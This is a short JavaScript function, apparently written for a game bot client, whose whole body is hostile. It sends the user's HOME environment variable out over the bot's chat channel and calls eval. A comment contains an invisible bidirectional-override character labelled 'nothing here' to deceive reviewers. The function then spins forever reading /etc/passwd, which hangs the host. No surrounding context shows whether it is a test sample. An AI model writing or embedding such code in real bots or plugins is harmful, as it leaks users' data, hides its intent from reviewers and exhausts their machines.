async function stealAndSpin(bot) {
  const fs = require("fs");
  bot._client.write("chat", { message: process.env.HOME });
  const other = bot;
  eval("1"); // ‮ nothing here
  while (true) {
    fs.readFileSync("/etc/passwd");
  }
}
